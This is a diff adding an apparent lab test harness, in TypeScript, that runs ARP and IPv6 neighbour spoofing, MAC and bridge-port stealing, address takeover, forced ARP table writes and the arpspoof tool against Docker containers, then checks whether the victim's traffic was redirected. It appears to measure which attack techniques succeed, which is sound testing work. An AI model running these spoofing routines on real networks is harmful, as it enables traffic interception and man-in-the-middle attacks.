@@ -1,0 +1,155 @@
+import { readFileSync } from 'node:fs';
+import { arpFrames, ndFrames, stealFrames, INVENTED, type Frame } from '../../../src/core/reach/frames.js';
+import { toNumber } from '../../../src/core/reach/filter/truth.js';
+import type { Technique } from '../../../src/core/reach/types.js';
+import { tryRun, until, type Ran } from '../run.js';
+import { bytesOf } from './bytes.js';
+import type { Place, Stage } from './stage.js';
+
+/** What an attack came to. `by`: how it worked. `heard`: whether the victim's packets came to the attacker; null where not measured. */
+export interface Outcome {
+  readonly worked: boolean;
+  readonly by: string;
+  readonly heard: boolean | null;
+}
+
+const WRITTEN = '02:bd:00:be:ef:02';
+const SENDER = '/sender.pl';
+const sleep = (ms: number) => new Promise((wake) => setTimeout(wake, ms));
+const inNet = (p: Place, command: readonly string[]) => tryRun(['nsenter', `--net=/proc/${p.pid}/ns/net`, ...command]);
+
+/** Runs a command with the rights of the attacker's process. */
+function asAttacker(s: Stage, command: readonly string[], input = ''): Promise<Ran> {
+  return s.lab.tryDocker(['exec', '-i', ...(s.scenario.exec ?? []), s.A.container, ...(s.scenario.wrap ?? []), ...command], { input, timeout: 30_000 });
+}
+
+/** The MAC that the victim's table holds for an address, `''` for none. */
+async function entry(s: Stage, six: boolean): Promise<string> {
+  if (!six) {
+    const line = readFileSync(`/proc/${s.victim.pid}/net/arp`, 'utf8').split('\n').find((l) => l.startsWith(`${s.target.ip} `));
+    return line?.split(/\s+/)[3] ?? '';
+  }
+  const ran = await inNet(s.victim, ['ip', '-6', '-j', 'neigh', 'show', s.target.ip6]);
+  return ran.stdout.startsWith('[') ? ((JSON.parse(ran.stdout) as { readonly lladdr?: string }[])[0]?.lladdr ?? '') : '';
+}
+
+const forged = (s: Stage, mac: string): boolean => mac !== '' && mac !== s.target.mac && [s.A.mac, INVENTED, WRITTEN].includes(mac);
+
+/** A table as it is in ordinary life: the victim has just spoken with the one who will be impersonated. */
+async function ordinary(s: Stage, six: boolean): Promise<void> {
+  await inNet(s.victim, ['ip', six ? '-6' : '-4', 'neigh', 'flush', 'dev', s.victim.iface]);
+  const to = six ? s.target.ip6 : s.target.ip;
+  if (to === '') return;
+  await inNet(s.victim, ['busybox', 'ping', ...(six ? ['-6'] : []), '-c', '1', '-W', '1', to]);
+}
+
+/** Sends frames through the first door that opens, and looks at the table meanwhile. */
+async function send(s: Stage, frames: readonly Frame[], rounds: number, took: () => Promise<boolean>): Promise<{ readonly worked: boolean; readonly by: string }> {
+  const input = `${frames.map(bytesOf).join('\n')}\n`;
+  for (const door of ['packet', 'old', 'wide']) {
+    let ended: Ran | null = null;
+    const sending = asAttacker(s, ['perl', SENDER, 'send', String(s.allowed), s.A.iface, door, String(rounds)], input).then((ran) => (ended = ran));
+    let worked = false;
+    while (ended === null && !worked) {
+      worked = await took();
+      if (!worked) await sleep(30);
+    }
+    const ran = await sending;
+    if (ran.stderr.includes('refused')) throw new Error(ran.stderr);
+    worked ||= await until(took, 150, 30);
+    if (worked) return { worked, by: door };
+    if (ran.code === 0) break;
+  }
+  return { worked: false, by: '' };
+}
+
+const untagged = (f: Frame): boolean => f.tags.length === 0 && f.source !== INVENTED && !(f.body.kind === 'arp' && (f.body.hardware === 6 || f.body.senderMac === INVENTED));
+
+async function spoof(s: Stage, six: boolean): Promise<{ readonly worked: boolean; readonly by: string }> {
+  const end = (p: Place) => ({ mac: p.mac, ip: six ? p.ip6 : p.ip });
+  const took = async () => forged(s, await entry(s, six));
+  if (s.A.mac !== '' && end(s.target).ip !== '' && end(s.victim).ip !== '') {
+    const all = six ? [...ndFrames(end(s.A), end(s.victim), end(s.target), s.A.ip6 === '' ? null : s.A.ip6)] : [...arpFrames(end(s.A), end(s.victim), end(s.target))];
+    const plain = all.filter(untagged);
+    for (const [frames, rounds] of [[plain, 3], [plain, 26], [all, 26], [all, 26]] as const) {
+      await ordinary(s, six);
+      const tried = await send(s, frames, rounds, took);
+      if (tried.worked) return { worked: true, by: `${tried.by}${frames === plain ? '' : ', in disguise'}` };
+    }
+  }
+  await ordinary(s, six);
+  const other = six ? await advertise(s) : await takeAddress(s);
+  return (await until(took, 300, 30)) ? { worked: true, by: other } : { worked: false, by: '' };
+}
+
+/** A raw IPv6 socket: the kernel makes the frame. */
+async function advertise(s: Stage): Promise<string> {
+  if (s.victim.ip6 === '' || s.target.ip6 === '' || s.A.mac === '') return '';
+  const hex = (ip: string) => (toNumber(ip) ?? 0n).toString(16).padStart(32, '0');
+  const message = `8800000060000000${hex(s.target.ip6)}0201${s.A.mac.replaceAll(':', '')}`;
+  await asAttacker(s, ['perl', SENDER, 'advertise', String(s.allowed), s.A.iface, hex(s.victim.ip6), '26', message]);
+  return 'raw IPv6 socket';
+}
+
+/** Takes the address and speaks from it: the kernel itself asks for the victim in that name. */
+async function takeAddress(s: Stage): Promise<string> {
+  const taken = await asAttacker(s, ['ip', 'addr', 'add', `${s.target.ip}/32`, 'dev', s.A.iface]);
+  if (taken.code !== 0) return '';
+  await inNet(s.A, ['ip', 'neigh', 'flush', 'dev', s.A.iface]);
+  await asAttacker(s, ['perl', SENDER, 'speak', String(s.allowed), s.A.iface, s.target.ip, s.victim.ip, '6']);
+  return 'the address taken';
+}
+
+async function portOf(s: Stage, mac: string): Promise<string> {
+  const ran = await s.lab.inNet(['bridge', '-j', 'fdb', 'show', 'br', s.bridge]);
+  const list = ran.stdout.startsWith('[') ? (JSON.parse(ran.stdout) as { readonly mac: string; readonly ifname: string; readonly master?: string; readonly state?: string }[]) : [];
+  return list.find((e) => e.mac === mac && e.master === s.bridge && e.state !== 'permanent')?.ifname ?? '';
+}
+
+async function steal(s: Stage): Promise<{ readonly worked: boolean; readonly by: string }> {
+  const took = async () => s.A.port !== '' && (await portOf(s, s.target.mac)) === s.A.port;
+  for (const rounds of [3, 12]) {
+    const tried = await send(s, [...stealFrames({ mac: s.A.mac, ip: s.A.ip }, { mac: s.target.mac, ip: s.target.ip })], rounds, took);
+    if (tried.worked) return tried;
+  }
+  if ((await asAttacker(s, ['ip', 'link', 'set', s.A.iface, 'address', s.target.mac])).code !== 0) return { worked: false, by: '' };
+  await asAttacker(s, ['perl', SENDER, 'speak', String(s.allowed), s.A.iface, s.A.ip, s.victim.ip, '4']);
+  return (await until(took, 300, 30)) ? { worked: true, by: 'the MAC taken' } : { worked: false, by: '' };
+}
+
+async function write(s: Stage): Promise<{ readonly worked: boolean; readonly by: string }> {
+  const shared = s.scenario.victim === 'donor';
+  const pid = s.scenario.A?.some((a) => a.startsWith('container:')) === true ? 1 : s.victim.pid;
+  const arp = ['arp', '-s', s.target.ip, WRITTEN];
+  await asAttacker(s, shared ? arp : ['nsenter', '-t', String(pid), '-n', ...arp]);
+  return { worked: await until(async () => forged(s, await entry(s, false)), 200, 30), by: shared ? 'the table they share' : 'nsenter' };
+}
+
+/** Where the victim's packets to the impersonated address go. */
+async function hears(s: Stage): Promise<boolean> {
+  const hearing = asAttacker(s, ['perl', SENDER, 'hear', String(s.allowed), s.A.iface, s.target.ip, '3']);
+  for (let n = 0; n < 3; n++) {
+    await sleep(200);
+    await inNet(s.victim, ['busybox', 'ping', '-c', '1', '-W', '1', s.target.ip]);
+  }
+  return (await hearing).stdout.includes('heard');
+}
+
+async function withArpspoof(s: Stage): Promise<boolean> {
+  await ordinary(s, false);
+  const running = asAttacker(s, ['timeout', '-s', 'KILL', '3', 'arpspoof', '-i', s.A.iface, '-t', s.victim.ip, s.target.ip]);
+  const worked = await until(async () => (await entry(s, false)) === s.A.mac, 4_000, 50);
+  await running;
+  return worked;
+}
+
+/** Attacks for real, with everything that this lab has for a technique. */
+export async function attack(s: Stage, technique: Technique): Promise<Outcome> {
+  if (technique === 'table-write') return { ...(await write(s)), heard: null };
+  if (technique === 'mac-steal') return { ...(await steal(s)), heard: null };
+  const six = technique === 'ndp-spoof';
+  const done = await spoof(s, six);
+  const tool = done.worked && s.scenario.arpspoof === true && !six ? await withArpspoof(s) : null;
+  const heard = done.worked && s.scenario.reads === true && !six ? await hears(s) : null;
+  return { worked: done.worked, by: `${done.by}${tool === null ? '' : tool ? ', arpspoof' : ', not arpspoof'}`, heard };
+}
